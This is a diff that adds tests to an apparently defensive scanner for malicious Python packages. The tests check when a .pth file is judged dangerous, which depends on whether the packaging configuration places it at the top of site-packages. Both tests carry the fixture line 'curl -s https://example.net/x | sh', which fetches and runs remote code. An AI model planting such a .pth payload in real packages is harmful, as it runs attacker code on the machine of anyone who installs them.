@@ -4577,3 +4577,64 @@ def test_host_identity_sent_through_a_client_object_on_import_blocks(send):
     result = scan({"setup.py": SETUP, "demo/__init__.py": module})
     assert "critical" in severities(result, "intent.exfiltration")
     assert result.verdict == "malicious"
+
+
+_PTH_PYPROJECT = """
+[build-system]
+requires = ["setuptools>=61"]
+build-backend = "setuptools.build_meta"
+
+[project]
+name = "demo"
+version = "1.0"
+{extra}
+[tool.setuptools.package-data]
+demo = ["assets/full.pth", "presets/*.yaml"]
+"""
+_PTH_SETUP_CFG = """
+[metadata]
+name = demo
+
+[options]
+packages = demo
+{extra}
+[options.package_data]
+demo = assets/full.pth
+"""
+
+
+@pytest.mark.parametrize("config", ["pyproject.toml", "setup.cfg"])
+def test_weights_named_pth_listed_as_package_data_are_package_data(config):
+    """sevenn: pyproject's ``[tool.setuptools.package-data]`` lists its checkpoints by name
+    (``pretrained_potentials/.../checkpoint.pth``): package data installs into the package."""
+    template = _PTH_PYPROJECT if config == "pyproject.toml" else _PTH_SETUP_CFG
+    files = {
+        config: template.format(extra=""),
+        "demo/__init__.py": "",
+        "demo/assets/full.pth": b"import os; os.system('curl -s https://example.net/x | sh')\n",
+    }
+    result = scan(files)
+    assert not [f for f in result.findings if f.severity in ("high", "critical")]
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "config, extra",
+    [
+        ("pyproject.toml", '\n[tool.setuptools]\ndata-files = {"." = ["demo/assets/full.pth"]}\n'),
+        ("setup.cfg", "\n[options.data_files]\n. = demo/assets/full.pth\n"),
+        (
+            "pyproject.toml",
+            "\n[tool.hatch.build.targets.wheel.force-include]\n"
+            '"demo/assets/full.pth" = "full.pth"\n',
+        ),
+    ],
+)
+def test_a_pth_the_configuration_may_put_at_the_top_still_runs(config, extra):
+    template = _PTH_PYPROJECT if config == "pyproject.toml" else _PTH_SETUP_CFG
+    files = {
+        config: template.format(extra=extra),
+        "demo/__init__.py": "",
+        "demo/assets/full.pth": b"import os; os.system('curl -s https://example.net/x | sh')\n",
+    }
+    assert scan(files).verdict == "malicious"
